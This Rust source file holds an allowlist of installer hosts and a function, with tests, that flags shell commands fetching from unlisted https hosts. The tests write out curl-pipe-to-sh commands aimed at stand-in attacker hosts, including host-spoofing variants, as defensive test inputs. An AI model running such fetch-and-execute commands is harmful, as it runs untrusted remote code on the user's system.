//! Hosts whose programs people pipe into a shell to set something up, over a connection that tells who they are.

const HOSTS: [&str; 90] = [
    "sh.rustup.rs",
    "static.rust-lang.org",
    "deb.nodesource.com",
    "rpm.nodesource.com",
    "get.docker.com",
    "download.docker.com",
    "install.python-poetry.org",
    "bootstrap.pypa.io",
    "raw.githubusercontent.com",
    "github.com",
    "api.github.com",
    "objects.githubusercontent.com",
    "gitlab.com",
    "astral.sh",
    "pyenv.run",
    "pixi.sh",
    "ollama.com",
    "ollama.ai",
    "get.helm.sh",
    "get.k3s.io",
    "get.sdkman.io",
    "get.pnpm.io",
    "get.rke2.io",
    "micro.mamba.pm",
    "repo.anaconda.com",
    "repo.continuum.io",
    "conda.anaconda.org",
    "sdk.cloud.google.com",
    "packages.cloud.google.com",
    "storage.googleapis.com",
    "dl.google.com",
    "packagecloud.io",
    "packages.microsoft.com",
    "aka.ms",
    "dot.net",
    "nvidia.github.io",
    "developer.download.nvidia.com",
    "repo.radeon.com",
    "apt.llvm.org",
    "deno.land",
    "bun.sh",
    "fly.io",
    "starship.rs",
    "git.io",
    "go.dev",
    "golang.org",
    "cli.doppler.com",
    "dl.k8s.io",
    "releases.hashicorp.com",
    "apt.releases.hashicorp.com",
    "awscli.amazonaws.com",
    "s3.amazonaws.com",
    "install.duckdb.org",
    "clickhouse.com",
    "huggingface.co",
    "hf.co",
    "cdn.jsdelivr.net",
    "codecov.io",
    "uploader.codecov.io",
    "keybase.io",
    "tailscale.com",
    "www.npmjs.com",
    "wasmtime.dev",
    "rustwasm.github.io",
    "sh.vector.dev",
    "get.nextflow.io",
    "cli.github.com",
    "download.pytorch.org",
    "cmake.org",
    "dl.min.io",
    "getcomposer.org",
    "install.determinate.systems",
    "nixos.org",
    "releases.nixos.org",
    "get.volta.sh",
    "get-ghcup.haskell.org",
    "install.julialang.org",
    "dl.yarnpkg.com",
    "yarnpkg.com",
    "get.opentofu.org",
    "raw.github.com",
    "cli-assets.heroku.com",
    "packages.gitlab.com",
    "packages.grafana.com",
    "apt.grafana.com",
    "deb.debian.org",
    "archive.ubuntu.com",
    "repo.maven.apache.org",
    "archive.apache.org",
    "modal.com",
];

/// Whether a command, in lower case, fetches from a host that is none of these.
pub(super) fn unknown(text: &str) -> bool {
    text.split("https://").skip(1).any(|rest| {
        let host = rest.split(['/', ':', '"', '\'', ' ', '?', ')', '|', ';']).next().unwrap_or("");
        let host = host.rsplit('@').next().unwrap_or(host);
        let named = host.contains('.') && !host.contains(['$', '{', '<', '%']);
        named && !HOSTS.contains(&host)
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hosts_are_compared_whole() {
        assert!(!unknown("curl -lssf https://astral.sh/uv/install.sh | sh"));
        assert!(!unknown("curl https://$host/i.sh | sh") && !unknown("curl https://localhost/i.sh | sh"));
        assert!(unknown("curl https://astral.sh.evil.example/i.sh | sh"));
        assert!(unknown("curl https://astral.sh@evil.example/i.sh | sh"));
        assert!(unknown("curl https://evil.example/i.sh | sh"));
    }
}
